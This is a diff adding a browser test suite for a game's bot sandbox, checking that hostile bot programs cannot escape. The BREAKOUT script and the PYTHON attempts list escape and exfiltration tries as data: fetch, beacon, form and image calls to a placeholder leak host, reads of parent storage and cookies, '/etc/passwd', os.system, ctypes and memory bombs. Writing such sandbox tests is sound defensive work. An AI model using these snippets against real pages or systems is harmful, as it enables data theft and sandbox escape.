@@ -1,0 +1,326 @@
+"""The sandbox in which bots run: what a stranger's program may try, and that nothing comes of it (``docs/workshop.md``)."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import re
+from base64 import b64encode
+from collections.abc import Iterator
+from contextlib import contextmanager
+from functools import cache
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from threading import Thread
+from typing import Any
+
+import pytest
+from conftest import Opener
+from driver import Page
+from waiting import ready, wait_for
+
+from navals import games
+from navals.core.thinking.packing import pack
+from navals.tools.serve import running
+
+pytestmark = [pytest.mark.browser, pytest.mark.once]
+
+HOSTILE = Path(__file__).with_name("hostile.js")
+NAMES = re.findall(r'^  "([^"]+)": ', HOSTILE.read_text(encoding="utf-8"), re.MULTILINE)
+"""The attempts of a worker, by name."""
+
+
+@contextmanager
+def listening() -> Iterator[tuple[str, list[str]]]:
+    """A server of another origin that lets everybody in: its address, and who came."""
+    came: list[str] = []
+
+    class Noting(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            came.append(self.path)
+            self.send_response(200)
+            for name, value in (("Access-Control-Allow-Origin", "*"), ("Cross-Origin-Resource-Policy", "cross-origin"), ("Content-Type", "text/javascript"), ("Content-Length", "0")):  # fmt: skip
+                self.send_header(name, value)
+            self.end_headers()
+
+        do_POST = do_HEAD = do_OPTIONS = do_GET
+
+        def log_message(self, format: str, *args: Any) -> None:
+            pass
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Noting) as server:
+        Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{server.server_address[1]}", came
+        server.shutdown()
+
+
+@cache
+def module(dist: Path) -> str:
+    """The name of the script that has the sandbox."""
+    scripts = dist.glob("assets/*.js")
+    (found,) = (one.name for one in scripts if "allow-scripts" in one.read_text(encoding="utf-8"))
+    return found
+
+
+def in_page(page: Page, code: str, **given: Any) -> Any:
+    """The value of an asynchronous function body in the page."""
+    return page.evaluate(f"(async () => {{ const given = {json.dumps(given)}; {code} }})()")
+
+
+START = """const { createSandbox } = await import(`./assets/${given.module}`);
+  const sandbox = createSandbox({ program: given.program, files: {} });
+  await sandbox.ready; """
+ASK = (
+    START
+    + """const begun = performance.now();
+  const said = await sandbox.ask(given.name, given.ms).catch((reason) => `ended: ${reason.reason}`);
+  // Who has spoken out of turn is thrown away as soon as that is heard.
+  for (let left = 100; left && given.ends && document.querySelector("iframe"); left -= 1) await new Promise((resolve) => setTimeout(resolve, 10));
+  const after = await sandbox.ask("names", 1000).catch((reason) => `ended: ${reason.reason}`);
+  sandbox.stop();
+  return { said, after, took: performance.now() - begun, frames: document.querySelectorAll("iframe").length, poisoned: {}.poisoned === 1 };"""
+)
+ALL = (
+    START
+    + """const found = {};
+  for (const name of given.names) found[name] = await sandbox.ask(name, 5000).catch((reason) => `ended: ${reason.reason}`);
+  sandbox.stop();
+  return found;"""
+)
+
+
+@contextmanager
+def opened(visit: Opener, url: str) -> Iterator[Page]:
+    """The home page. What the browser says of what it forbade is no fault of the page: whether anything left is asked where it would come to."""
+    with visit(url) as (page, guard):
+        guard.allow("")
+        ready(page)
+        yield page
+
+
+def test_enough_is_tried() -> None:
+    assert len(NAMES) >= 40
+
+
+def test_a_program_reaches_nothing(visit: Opener, site: str, dist: Path) -> None:
+    """Neither the network, nor what is kept, nor the page, nor another program."""
+    with listening() as (leak, came), opened(visit, site) as page:
+        program = (
+            HOSTILE.read_text(encoding="utf-8").replace("@LEAK@", leak).replace("@SITE@", site.rstrip("/"))
+        )
+        found = in_page(page, ALL, module=module(dist), program=program, names=NAMES)
+        escaped = {name: said for name, said in found.items() if not said.startswith("kept: ")}
+        assert set(found) == set(NAMES)
+        assert not escaped
+        assert not came
+
+
+def test_nobody_hears_it(visit: Opener, site: str, dist: Path) -> None:
+    """Channels by name are another origin's."""
+    hear = 'globalThis.heard = []; for (const one of ["navals", "navals-engine"]) { const channel = new BroadcastChannel(one); channel.onmessage = ({ data }) => heard.push(JSON.stringify(data)); } '
+    with opened(visit, site) as page:
+        code = hear + ASK.replace("sandbox.stop();", "sandbox.stop(); given.heard = heard.filter((one) => one.includes('escaped'));").replace("return {", "return { heard: given.heard, ")  # fmt: skip
+        told = in_page(page, code, module=module(dist), program=HOSTILE.read_text(encoding="utf-8"), name="told to others", ms=5000)  # fmt: skip
+        assert (told["said"], told["heard"]) == ("said", [])
+
+
+BREAKERS = {
+    "an object": "size", "shared memory": "size", "a long text": "size", "a flood": "talk", "two answers": "talk", "an error": "died",
+    "a loop": "time", "a loop in another worker": "time", "a loop of promises": "time", "silence": "time",
+}  # fmt: skip
+"""What a program may do instead of giving one answer, and why it is thrown away."""
+
+
+def test_who_breaks_the_rules_is_thrown_away(visit: Opener, site: str, dist: Path) -> None:
+    """Within a second after its time; the page goes on."""
+    with opened(visit, site) as page:
+        for name, end in BREAKERS.items():
+            told = in_page(page, ASK, module=module(dist), program=HOSTILE.read_text(encoding="utf-8"), name=name, ms=1000, ends=True)  # fmt: skip
+            # Of two answers the first one may have been taken.
+            assert told["said"] == f"ended: {end}" or (end == "talk" and told["said"] in ("one", "x")), name
+            assert told["after"] == f"ended: {end}", name
+            assert told["took"] < 2000, name
+            assert told["frames"] == 0, f"{name}: the frame is gone, and its worker with it"
+
+
+def test_a_text_is_only_a_text(visit: Opener, site: str, dist: Path) -> None:
+    with opened(visit, site) as page:
+        told = in_page(page, ASK, module=module(dist), program=HOSTILE.read_text(encoding="utf-8"), name="a poisoned text", ms=5000)  # fmt: skip
+        assert told["said"].startswith('{"__proto__"') and not told["poisoned"]
+
+
+FRAME = """const { createSandbox } = await import(`./assets/${given.module}`);
+  const sandbox = createSandbox({ program: "", files: {} });
+  sandbox.ready.catch(() => {});
+  const { srcdoc, attributes } = document.querySelector("iframe");
+  const all = Object.fromEntries([...attributes].map(({ name, value }) => [name, value]));
+  sandbox.stop();
+  return { ...all, srcdoc };"""
+
+
+def test_no_other_script_runs_in_the_frame(visit: Opener, site: str, dist: Path) -> None:
+    """The policy of the page holds there too, and names one script."""
+    with opened(visit, site) as page:
+        frame = in_page(page, FRAME, module=module(dist))
+        told = in_page(
+            page,
+            """const heard = [];
+            addEventListener("message", ({ data }) => heard.push(data));
+            const frame = document.createElement("iframe");
+            frame.setAttribute("sandbox", "allow-scripts");
+            frame.srcdoc = `<script>parent.postMessage("inline", "*")<\\/script><img src="x:" onerror="parent.postMessage('handler', '*')">
+              <script src="data:text/javascript,parent.postMessage('data','*')"><\\/script><iframe srcdoc="<script>top.postMessage('deeper','*')<\\/script>"></iframe>`;
+            const loaded = new Promise((resolve) => frame.addEventListener("load", resolve));
+            document.body.append(frame);
+            await loaded;
+            await new Promise((resolve) => setTimeout(resolve, 300));
+            frame.remove();
+            return heard;""",
+        )
+        assert told == []
+        assert frame["sandbox"] == "allow-scripts"
+
+
+BREAKOUT = """
+const tell = (name, said) => parent.postMessage([name, String(said)], "*");
+const attempts = {
+  "page": () => parent.document.title,
+  "page's storage": () => parent.localStorage.length,
+  "top": () => { top.location.href = "LEAK/top"; return "asked"; },
+  "top's place": () => top.location.href,
+  "popup": () => { if (!open("LEAK/popup")) throw new Error("none"); },
+  "storage": () => localStorage.length,
+  "session": () => sessionStorage.length,
+  "cookie": () => { if (!document.cookie.includes("deck")) throw new Error("not ours"); },
+  "database": () => indexedDB.open("navals") && new Promise((_, no) => setTimeout(no, 1)),
+  "caches": async () => { if (!(await caches.keys()).length) throw new Error("not ours"); },
+  "service worker": () => navigator.serviceWorker.register("/sw.js"),
+  "fetch": () => fetch("LEAK/fetch", { mode: "no-cors" }),
+  "beacon": () => { navigator.sendBeacon("LEAK/beacon", "x"); throw new Error("asked"); },
+  "image": () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = "LEAK/image"; }),
+  "style": () => { document.body.style.background = "url(LEAK/style)"; document.body.insertAdjacentHTML("beforeend", "<style>body{background:url(LEAK/sheet)}</style><link rel=stylesheet href=LEAK/link>"); throw new Error("asked"); },
+  "prefetch": () => { document.head.insertAdjacentHTML("beforeend", "<link rel=prefetch href=LEAK/prefetch><link rel=preload as=script href=LEAK/preload><link rel=preconnect href=LEAK>"); throw new Error("asked"); },
+  "form": () => { document.body.insertAdjacentHTML("beforeend", "<form action=LEAK/form method=post><input name=a value=b></form>"); document.forms[0].submit(); throw new Error("asked"); },
+  "download": () => { const a = document.createElement("a"); a.href = "data:text/plain,x"; a.download = "x.txt"; document.body.append(a); a.click(); throw new Error("asked"); },
+  "frame in the frame": () => { document.body.insertAdjacentHTML("beforeend", "<iframe src=LEAK/frame></iframe><object data=LEAK/object></object><embed src=LEAK/embed>"); throw new Error("asked"); },
+  "refresh": () => { document.head.insertAdjacentHTML("beforeend", "<base href=LEAK/base>"); throw new Error("asked"); },
+  "dialog": () => { if (!confirm("yes?")) throw new Error("no"); },
+  "full screen": () => document.documentElement.requestFullscreen(),
+  "clipboard": () => navigator.clipboard.readText(),
+  "place": () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)),
+  "camera": () => navigator.mediaDevices.getUserMedia({ video: true }),
+  "notification": async () => { if ((await Notification.requestPermission()) !== "granted") throw new Error("denied"); },
+};
+(async () => {
+  for (const [name, attempt] of Object.entries(attempts)) {
+    try { tell(name, "ESCAPED: " + (await attempt())); } catch (reason) { tell(name, "kept: " + reason); }
+  }
+  tell("end", "");
+})();
+"""
+
+
+def test_the_frame_itself_holds(visit: Opener, dist: Path, site: str, tmp_path: Path) -> None:
+    """Even if another script ran there: on a page without a policy of its own, in a frame that is made as ours is."""
+    (tmp_path / "index.html").write_text('<!doctype html><title>Deck</title><link rel="icon" href="data:,">', encoding="utf-8")  # fmt: skip
+    with opened(visit, site) as page:
+        frame = in_page(page, FRAME, module=module(dist))
+    with listening() as (leak, came), running(tmp_path) as url, visit(url) as (page, guard):
+        guard.allow("")
+        script = BREAKOUT.replace("LEAK", leak)
+        digest = "sha256-" + b64encode(hashlib.sha256(script.encode()).digest()).decode()
+        markup = re.sub(r"<script>.*</script>", "", frame.pop("srcdoc"), flags=re.DOTALL)
+        markup = re.sub(r"sha256-[^']+", lambda _: digest, markup) + f"<body><script>{script}</script>"
+        page.evaluate(
+            f"""(() => {{ globalThis.heard = {{}};
+            document.cookie = "deck=1";
+            void caches.open("deck");
+            addEventListener("message", ({{ data }}) => {{ heard[data[0]] = data[1]; }});
+            const frame = document.createElement("iframe");
+            for (const [name, value] of Object.entries({json.dumps(frame)})) frame.setAttribute(name, value);
+            frame.srcdoc = {json.dumps(markup)};
+            document.body.append(frame); }})()"""
+        )
+        wait_for(page, "'end' in globalThis.heard", "all is tried")
+        heard: dict[str, str] = page.evaluate("heard")
+        asked = {
+            "top": "ESCAPED: asked"
+        }  # some browsers say nothing when they forbid it: the page is still there
+        assert len(heard) > 25
+        assert {name: said for name, said in heard.items() if said.startswith("ESCAPED") and asked.get(name) != said} == {}  # fmt: skip
+        assert page.evaluate("document.title") == "Deck"
+        assert not came
+
+
+PYTHON: dict[str, str] = {
+    "js": "import js; js.fetch('LEAK/js')",
+    "js again": "import sys; sys.modules.pop('js', None); import js; js.fetch('LEAK/js2')",
+    "js by name": "import importlib; importlib.import_module('js').fetch('LEAK/js3')",
+    "pyodide's page": "import pyodide_js; pyodide_js.loadPackage('LEAK/package.whl')",
+    "script": "from pyodide.code import run_js; run_js('fetch(`LEAK/run`)')",
+    "pyodide's network": "from pyodide.http import pyfetch; pyfetch('LEAK/pyfetch')",
+    "micropip": "import micropip",
+    "site": "import navals_site",
+    "address": "import urllib.request; urllib.request.urlopen('LEAK/urllib')",
+    "socket": "import socket; socket.create_connection(('127.0.0.1', 80), 1)",
+    "process": "import subprocess; subprocess.run(['ls'])",
+    "shell": "import os; assert os.system('ls') == 0",
+    "file": "open('/etc/passwd').read()",
+    "library": "import ctypes; ctypes.CDLL('libc.so')",
+    "memory": "held = []\nwhile True: held.append(bytearray(1 << 26))",
+    "one large piece": "bytearray(1 << 30)",
+    "recursion": "def down(): down()\ndown()",
+    "exit": "import sys; sys.exit(0)",
+    "no function": "x = 1",
+    "no Python": "def play(view, actions, rng:\n    pass",
+}
+"""What a bot may try, each of which must end in an error."""
+
+OBJECTS = """import gc
+found = [one for one in gc.get_objects() if type(one).__name__ == "JsProxy"]
+for one in found:
+    for name in ("fetch", "postMessage", "close"):
+        try: getattr(one, name)("LEAK/object")
+        except BaseException: pass
+    try: one.constructor.constructor("fetch('LEAK/constructor')")()
+    except BaseException: pass
+def play(view, actions, rng): return actions[0]"""
+
+CELL = """const { createCell } = await import(`./assets/${given.module}`);
+  const cell = await createCell(given.game);
+  await cell.ready;
+  const ask = async (what, ms = 20000) => cell.ask(JSON.stringify(what), ms).then(JSON.parse, (reason) => ({ end: reason.reason }));
+  const found = {};
+  for (const [name, source] of Object.entries(given.tried)) found[name] = await ask({ do: "load", game: given.game, source });
+  found["a move"] = await ask({ do: "play", view: given.view, seed: 1 });
+  const begun = performance.now();
+  found["a loop"] = await ask({ do: "load", game: given.game, source: "while True: pass" }, 500);
+  found.took = performance.now() - begun;
+  found.frames = document.querySelectorAll("iframe").length;
+  return found;"""
+
+
+@pytest.mark.tour
+def test_a_bot_moves_and_reaches_nothing(visit: Opener, site: str, dist: Path) -> None:
+    """The whole engine in the sandbox, in each browser: Python's ways out, memory, loops; and a move."""
+    game = games.find(games.IDS[0])
+    assert game is not None
+    view = pack(game.start(game.schema.default()).view(0))
+    with listening() as (leak, came), opened(visit, site) as page:
+        tried = {name: source.replace("LEAK", leak) for name, source in PYTHON.items()}
+        last = {
+            "much said": "print('x' * 10_000_000)\ndef play(*a): return 'x'",
+            "objects": OBJECTS.replace("LEAK", leak),
+        }
+        found = in_page(page, CELL, module=module(dist), game=game.id, view=view, tried=tried | last)
+        for name in PYTHON:
+            assert found[name].get("error"), f"{name}: {found[name]}"
+        assert (
+            "MemoryError" in found["memory"]["error"] and "MemoryError" in found["one large piece"]["error"]
+        )
+        assert "RecursionError" in found["recursion"]["error"]
+        assert (found["no Python"]["line"], found["recursion"]["line"]) == (1, 1)
+        assert len(found["much said"]["printed"]) <= 10_000
+        assert found["a move"]["action"], found["a move"]
+        assert found["a loop"] == {"end": "time"} and found["took"] < 1500 and found["frames"] == 0
+        assert not came
